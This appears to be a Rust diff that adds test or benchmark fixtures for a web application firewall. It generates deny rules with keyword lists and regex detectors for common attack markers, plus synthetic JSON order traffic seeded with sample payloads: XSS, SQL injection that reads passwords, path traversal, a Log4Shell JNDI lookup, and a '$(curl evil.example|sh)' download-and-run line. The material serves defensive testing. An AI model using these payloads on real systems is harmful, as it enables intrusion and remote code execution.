@@ -486,3 +486,170 @@ pub fn small_requests(n: usize, blocklist: &[IpNet], rng: &mut Rng) -> Vec<Owned
         })
         .collect()
 }
+
+/// Fifty rules that read bodies, as an API's operator writes them beside the starter pack:
+/// fields of a JSON API (`arg["user.email"]`…), every argument under several decoding
+/// chains, the body fields.
+#[must_use]
+pub fn body_rules() -> String {
+    let mut t = String::new();
+    let mut rule = |id: &str, when: &str| {
+        let _ = write!(
+            t,
+            "\n[[rule]]\nid = \"{id}\"\nwhen = '{when}'\naction = \"forbid\"\n"
+        );
+    };
+    rule("unreadable", "present(body.error) or body.truncated");
+    for (i, field) in [
+        "email",
+        "name",
+        "address.city",
+        "address.zip",
+        "phone",
+        "role",
+        "plan",
+        "locale",
+    ]
+    .iter()
+    .enumerate()
+    {
+        rule(
+            &format!("user-{i}-long"),
+            &format!("len(arg[\"user.{field}\"]) > 512"),
+        );
+        rule(
+            &format!("user-{i}-ctl"),
+            &format!("arg[\"user.{field}\"] matches \"[\\\\x00-\\\\x08]\""),
+        );
+    }
+    rule(
+        "role",
+        "arg[\"user.role\"] in {\"admin\", \"root\", \"superuser\"}",
+    );
+    rule("plan", "arg[\"user.plan\"] == \"internal\"");
+    let words = [
+        "<script",
+        "javascript:",
+        "onerror=",
+        "onload=",
+        "union select",
+        "sleep(",
+        "../",
+        "/etc/passwd",
+        "$(",
+        "${jndi:",
+        "<!entity",
+        "<?php",
+        "eval(",
+        "base64_decode(",
+        "document.cookie",
+        "xp_cmdshell",
+        "benchmark(",
+        "information_schema",
+        "load_file(",
+        "into outfile",
+    ];
+    for (i, w) in words.iter().enumerate() {
+        let chain = [
+            "lower(args)",
+            "lower(url_decode_uni(args))",
+            "lower(html_entity_decode(args))",
+        ][i % 3];
+        rule(&format!("word-{i}"), &format!("{chain} contains \"{w}\""));
+    }
+    for (i, re) in [
+        "(?i)\\\\bunion\\\\s+select\\\\b",
+        "(?i)<\\\\s*script",
+        "\\\\.\\\\./",
+        "(?i)\\\\$\\\\{[a-z]+:",
+    ]
+    .iter()
+    .enumerate()
+    {
+        rule(
+            &format!("re-{i}"),
+            &format!("url_decode_uni(args) matches \"{re}\""),
+        );
+    }
+    rule("names", "arg_names matches \"[^a-zA-Z0-9_.\\\\[\\\\]-]\"");
+    rule(
+        "files",
+        "lower(files) ends_with_any {\".php\", \".jsp\", \".exe\"}",
+    );
+    rule("comment-len", "len(arg[\"comment\"]) > 2000");
+    t
+}
+
+/// API traffic with ~4 KB JSON bodies (a user, an order with line items, a comment), 5%
+/// carrying an attack in one value.
+#[must_use]
+pub fn json_requests(n: usize, rng: &mut Rng) -> Vec<OwnedRequest> {
+    let attacks = [
+        "<script>alert(1)</script>",
+        "1' UNION SELECT password FROM users--",
+        "../../etc/passwd",
+        "${jndi:ldap://x/a}",
+        "$(curl evil.example|sh)",
+    ];
+    (0..n)
+        .map(|i| {
+            let mut body = String::from("{\"user\": {");
+            let _ = write!(
+                body,
+                "\"email\": \"user{i}@example.com\", \"name\": \"Customer {i}\", \"phone\": \"+1 555 01{:02}\", \"role\": \"customer\", \"plan\": \"pro\", \"locale\": \"en-US\", \"address\": {{\"street\": \"{} Main Street\", \"city\": \"Springfield\", \"zip\": \"{:05}\"}}}}, \"order\": {{\"id\": {}, \"items\": [",
+                rng.below(100),
+                rng.below(1000),
+                rng.below(99_999),
+                rng.next_u64() % 1_000_000
+            );
+            while body.len() < 3600 {
+                let _ = write!(
+                    body,
+                    "{{\"sku\": \"SKU-{:06}\", \"qty\": {}, \"price\": {}.{:02}, \"note\": \"gift wrap, deliver after 5pm\"}}, ",
+                    rng.below(1_000_000),
+                    1 + rng.below(5),
+                    rng.below(200),
+                    rng.below(100)
+                );
+            }
+            body.truncate(body.len() - 2);
+            let comment = if rng.chance(5) {
+                attacks[rng.below(attacks.len())].to_string()
+            } else {
+                "Please leave the parcel with the neighbour if nobody is home.".to_string()
+            };
+            let _ = write!(body, "]}}, \"comment\": {}}}", serde_json_string(&comment));
+            OwnedRequest {
+                id: None,
+                client_ip: Some(IpAddr::V4(Ipv4Addr::new(203, 0, 113, (i % 250) as u8))),
+                method: "POST".to_string(),
+                uri: "/api/v1/orders".to_string(),
+                headers: vec![
+                    ("host".into(), "shop.example".into()),
+                    ("user-agent".into(), "okhttp/4.12.0".into()),
+                    ("content-type".into(), "application/json".into()),
+                    ("authorization".into(), "Bearer t".into()),
+                ],
+                auth: Auth::authenticated(format!("u{}", i % 50)),
+                geo_country: None,
+                attrs: Vec::new(),
+                time: Some(Duration::from_secs(1_800_000_000 + i as u64)),
+                body: Some(body.into_bytes()),
+            }
+        })
+        .collect()
+}
+
+/// A JSON string literal.
+fn serde_json_string(s: &str) -> String {
+    let mut out = String::from("\"");
+    for c in s.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
